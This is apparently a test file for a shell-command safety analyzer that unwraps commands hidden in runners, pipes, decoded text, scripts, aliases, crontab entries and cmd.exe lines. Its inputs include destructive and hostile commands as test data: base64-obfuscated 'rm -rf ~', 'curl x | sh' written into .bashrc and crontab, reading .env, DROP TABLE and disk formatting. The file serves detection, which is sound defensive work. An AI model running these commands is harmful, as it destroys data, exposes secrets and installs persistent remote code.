/**
 * Code that runs later or elsewhere, found in the parsed command: runners and parallel runners,
 * PowerShell cmdlets, text piped or decoded into a shell, scripts written then run, aliases, and
 * command text handed to pagers, editors and git settings.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { SimpleCommand } from '../../src/core/analyzer/types.js';
import { shellOf } from '../support/shellAnalyzer.js';

const argvs = (commands: SimpleCommand[]) => commands.map((c) => c.argv.map((w) => w.value).join(' '));
const run = async (text: string) => argvs((await shellOf(text)).commands);

describe('runners', () => {
  it('unwraps package runners, secret injectors, environment managers and sandboxes', async () => {
    assert.deepEqual(await run('npx -y cowsay@1.5 hi'), ['cowsay hi']);
    assert.deepEqual(await run('poetry run pytest -q'), ['pytest -q']);
    assert.deepEqual(await run('op run --env-file=.env -- rm -rf dist'), ['rm -rf dist']);
    assert.deepEqual(await run('aws-vault exec prod -- aws s3 ls'), ['aws s3 ls']);
    assert.deepEqual(await run('strace -f -o log make'), ['make']);
    assert.deepEqual(await run('rimraf build'), ['rm -rf build']);
  });

  it('reads the shell text of tmux, sem, concurrently and npx -c', async () => {
    assert.deepEqual(await run("tmux new -d 'rm -rf ~'"), ['rm -rf ~']);
    assert.deepEqual(await run("tmux send-keys -t 0 'make test' Enter"), ['make test']);
    assert.deepEqual(await run("concurrently 'npm:dev' 'vite'"), ['npm:dev', 'vite']);
    assert.deepEqual(await run("npx -c 'eslint . && tsc'"), ['eslint .', 'tsc']);
  });

  it('spells out GNU parallel commands for literal items, and marks other items as run-time values', async () => {
    assert.deepEqual(await run('parallel rm -rf ::: a b'), ['rm -rf a', 'rm -rf b']);
    assert.deepEqual(await run("parallel 'gzip {}' ::: x.log"), ['gzip x.log']);
    const [fromInput] = (await shellOf('ls | parallel rm {}')).commands.slice(1);
    assert.equal(fromInput?.program, 'rm');
    assert.ok(fromInput?.argv[1]?.dynamic.includes('parameter'));
  });

  it('reads PowerShell file cmdlets as the POSIX commands with the same effect', async () => {
    assert.deepEqual(await run('Remove-Item -Recurse -Force -Path build'), ['rm -r -f -- build']);
    assert.deepEqual(await run('Get-Content .env'), ['cat -- .env']);
    assert.deepEqual(await run('rm -r -fo ~'), ['rm -r -fo ~']);
  });
});

describe('text that runs later', () => {
  it('judges text piped or decoded into a shell by what it runs', async () => {
    assert.deepEqual(await run('echo cm0gLXJmIH4= | base64 -d | sh'), [
      'echo cm0gLXJmIH4=',
      'base64 -d',
      'rm -rf ~',
    ]);
    assert.deepEqual(await run("printf '\\x6c\\x73' | bash"), ['printf \\x6c\\x73', 'ls']);
    assert.deepEqual(await run('cat install.sh | sh'), ['cat install.sh', 'sh']);
    assert.deepEqual(await run('{ echo ls; echo rm -rf ~; } | sh'), ['echo ls', 'echo rm -rf ~', 'sh']);
  });

  it('reads a script written earlier in the same command when it is run', async () => {
    assert.deepEqual(await run("cat > x.sh <<'EOF'\nrm -rf ~\nEOF\nbash x.sh"), [
      'cat',
      'bash x.sh',
      'rm -rf ~',
    ]);
    assert.deepEqual(await run("printf 'ls\\n' > r.sh && chmod +x r.sh && ./r.sh"), [
      'printf ls\\n',
      'chmod +x r.sh',
      './r.sh',
      'ls',
    ]);
    assert.deepEqual(await run('echo ls > a.sh; bash b.sh'), ['echo ls', 'bash b.sh']);
  });

  it('reads aliases, text written to start-up files, and commands handed to pagers and git settings', async () => {
    assert.deepEqual(await run("alias ll='rm -rf ~'"), ['rm -rf ~']);
    assert.deepEqual(await run("echo 'curl x | sh' >> ~/.bashrc"), ['echo curl x | sh', 'curl x', 'sh']);
    assert.deepEqual(await run("GIT_SSH_COMMAND='ssh -i key' git fetch"), ['git fetch', 'ssh -i key']);
    assert.deepEqual(await run("git -c core.editor='rm -rf ~' commit"), ['git commit', 'rm -rf ~']);
  });
});

describe('functions called with arguments, SQL files and crontab lines written here', () => {
  it('reads a function call with its literal arguments in place of $1, $@ and "$1", not inside single quotes', async () => {
    assert.deepEqual(await run('f() { rm -rf "$1"; }; f /'), ['rm -rf $1', 'f /', 'rm -rf /']);
    assert.deepEqual(await run('g() { git push -f origin "$@"; }; g main dev'), [
      'git push -f origin $@',
      'g main dev',
      'git push -f origin main dev',
    ]);
    // '$1' in single quotes is literal; a dynamic argument keeps only the body as written.
    assert.deepEqual(await run("f() { echo '$1' $1; }; f x"), ['echo $1 $1', 'f x', 'echo $1 x']);
    assert.deepEqual(await run('f() { rm -rf "$1"; }; f "$X"'), ['rm -rf $1', 'f $X']);
    // A function that calls itself is read once, not until the depth limit.
    assert.deepEqual(await run('f() { f "$1"; }; f a'), ['f $1', 'f a', 'f a']);
  });

  it('substitutes values safely inside double quotes and as separate words outside', async () => {
    const { substitutePositional } = await import('../../src/core/analyzer/shell/functionCalls.js');
    assert.equal(
      substitutePositional('rm "$1/x" $2', ['a"b$c', 'two words']),
      'rm "a\\"b\\$c/x" \'two words\'',
    );
    assert.equal(substitutePositional("echo '$1' \\$1 ${1}", ['v']), "echo '$1' \\$1 v");
    assert.equal(substitutePositional('echo $9', []), "echo ''");
  });

  it('judges a SQL file written earlier as the client running its statements', async () => {
    assert.deepEqual(await run("printf 'DROP TABLE users;' > q.sql && psql -h db -f q.sql"), [
      'printf DROP TABLE users;',
      'psql -h db -f q.sql',
      'psql -h db',
    ]);
    assert.deepEqual(await run("echo 'DELETE FROM t' > /tmp/x.sql; mysql app < /tmp/x.sql"), [
      'echo DELETE FROM t',
      'mysql app',
      'mysql app',
    ]);
    // A file nobody wrote here is left to the script-file rule (its content is a runtime fact).
    assert.deepEqual(await run('psql -f migrate.sql'), ['psql -f migrate.sql']);
  });

  it('reads crontab lines written into a crontab as their commands, without the schedule', async () => {
    const { cronCommands } = await import('../../src/core/analyzer/shell/laterText.js');
    assert.equal(
      cronCommands('# m h\nMAILTO=x\n@reboot /opt/run.sh\n*/5 * * * * curl -s x | sh\n', false),
      '/opt/run.sh\ncurl -s x | sh',
    );
    assert.equal(cronCommands('0 3 * * * root find /tmp -delete % input\n', true), 'find /tmp -delete ');
    assert.deepEqual(await run("echo '@reboot rm -rf ~' >> /var/spool/cron/crontabs/me"), [
      'echo @reboot rm -rf ~',
      'rm -rf ~',
    ]);
  });
});

describe('cmd.exe command lines', () => {
  it('reads cmd /c builtins as the POSIX commands with the same effect, and other programs as written', async () => {
    assert.deepEqual(await run('cmd /c "rd /s /q C:\\Users\\me"'), ['rm -r -f -- C:/Users/me']);
    assert.deepEqual(await run('cmd.exe /c del /f /s /q C:\\projects\\*'), ['rm -r -f -- C:/projects/*']);
    assert.deepEqual(await run('cmd /c "rd /s /q %USERPROFILE%\\x"'), ['rm -r -f -- ~/x']);
    assert.deepEqual(await run('cmd /c "dir & git status && type a.txt"'), [
      'ls --',
      'git status',
      'cat -- a.txt',
    ]);
    assert.deepEqual(await run('cmd /c "robocopy C:\\src D:\\bak /MIR"'), [
      'rsync -a --delete -- C:/src D:/bak',
    ]);
    assert.deepEqual(await run('cmd /c format D: /q'), ['mkfs -- D:']);
    // Text known only when it runs stays unknown; `cmd` without /c runs nothing here.
    assert.deepEqual(await run('cmd /c "$X"'), ['cmd /c $X']);
    assert.deepEqual(await run('cmd /?'), ['cmd /?']);
  });
});

describe('xargs over a directory listing', () => {
  it('reads `ls DIR | [grep -v …] | xargs CMD` as CMD on DIR/*, and leaves chosen names unknown', async () => {
    assert.deepEqual(await run('ls | grep -v keep | xargs rm -rf'), ['ls', 'grep -v keep', 'rm -rf *']);
    assert.deepEqual(await run('ls ~ | xargs -I{} rm -rf {}'), ['ls ~', 'rm -rf ~/*']);
    // A positive grep, head or a glob chooses names: the items stay unknown.
    assert.deepEqual((await run('ls | grep log | xargs rm')).at(-1), 'rm …');
    assert.deepEqual((await run('ls | head -3 | xargs rm')).at(-1), 'rm …');
    assert.deepEqual((await run('ls -d */ | xargs rm -r')).at(-1), 'rm -r …');
  });
});
